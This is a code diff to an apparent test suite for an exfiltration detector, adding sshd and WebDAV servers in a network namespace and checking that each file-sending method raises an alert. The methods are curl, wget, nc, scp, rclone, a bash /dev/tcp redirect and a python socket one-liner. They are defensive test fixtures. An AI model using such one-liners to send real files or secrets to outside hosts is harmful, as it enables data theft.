@@ -20,8 +20,9 @@ import socket
 with socket.create_server(("0.0.0.0", 9000)) as server:
     while True:
         link, _ = server.accept()
-        while link.recv(1 << 20):
-            pass
+        with link:
+            while link.recv(1 << 20):
+                pass
 """
 
 
@@ -77,11 +78,52 @@ def over(child):
     assert lost["kernel_packets"] > 0 and lost["kernel_drops"] == 0, lost
 
 
-# the last two are what nc does, and a program of one's own
+SSHD = """
+ListenAddress {address}
+HostKey {here}/host
+AuthorizedKeysFile {here}/user.pub
+StrictModes no
+UsePAM no
+PidFile none
+Subsystem sftp internal-sftp
+"""
+
+
+def found(program):
+    return shutil.which(program, path=os.environ["PATH"] + ":/usr/sbin")
+
+
+def serves_ssh(wire):
+    """sshd in the outside host, whose keys are of this minute."""
+    for name in "host", "user":
+        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", name)
+    os.makedirs("/run/sshd", exist_ok=True)
+    write("sshd.conf", SSHD.format(address=OUTSIDE, here=os.getcwd()))
+    wire.start(wire.outside, found("sshd"), "-D", "-e", "-f", "sshd.conf", stderr=subprocess.DEVNULL)
+
+
+def serves_webdav(wire):
+    os.mkdir("dav")
+    wire.start(wire.outside, "rclone", "serve", "webdav", "--addr", f"{OUTSIDE}:8080", "dav", stderr=subprocess.DEVNULL)
+
+
+def answers(wire, port):
+    line = f"exec 3<>/dev/tcp/{OUTSIDE}/{port}"
+    assert until(lambda: subprocess.run(["ip", "netns", "exec", wire.inside, "bash", "-c", line], check=False,
+                                        capture_output=True).returncode == 0), port
+
+
+# who serves what a way needs, and where
+SERVERS = {"scp": (serves_ssh, 22, "sshd"), "rclone": (serves_webdav, 8080, "rclone")}
+SSH = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
+# the last one is a program of one's own
 WAYS = {
     "curl": f"curl -s -T a.bin -o /dev/null http://{OUTSIDE}/a.bin",
     "curl, slowly": f"curl -s --limit-rate 8M -T a.bin -o /dev/null http://{OUTSIDE}/a.bin",
     "wget": f"wget -q --method=PUT --body-file=a.bin -O /dev/null http://{OUTSIDE}/a.bin",
+    "nc": f"nc -N {OUTSIDE} 9000 < a.bin",
+    "scp": f"scp -q {SSH} -i user a.bin root@{OUTSIDE}:{{here}}/copy.bin",
+    "rclone": f"rclone --config /dev/null copyto a.bin :webdav:a.bin --webdav-url http://{OUTSIDE}:8080",
     "bash": f"exec 3<>/dev/tcp/{OUTSIDE}/9000 && cat a.bin >&3",
     "python3": f"python3 -c 'import socket; socket.create_connection((\"{OUTSIDE}\", 9000)).sendall(open(\"a.bin\", \"rb\").read())'",
 }
@@ -94,9 +136,13 @@ def each_way_to_send_a_file_out_is_an_alert_within_a_second_of_the_packet_that_c
         to.write(os.urandom(MB) * 20)
     count = 0
     for way, line in WAYS.items():
-        if not shutil.which(way.split(",", maxsplit=1)[0]):
+        serve, port, server = SERVERS.get(way, (None, None, "bash"))
+        if not shutil.which(way.split(",", maxsplit=1)[0]) or not found(server):
             continue
-        sender = wire.start(wire.inside, "bash", "-c", line)
+        if serve:
+            serve(wire)
+            answers(wire, port)
+        sender = wire.start(wire.inside, "bash", "-c", line.replace("{here}", os.getcwd()))
         count += 1
         assert until(lambda count=count: len(of("alert")) == count), (way, said())
         now = datetime.datetime.now(datetime.timezone.utc)
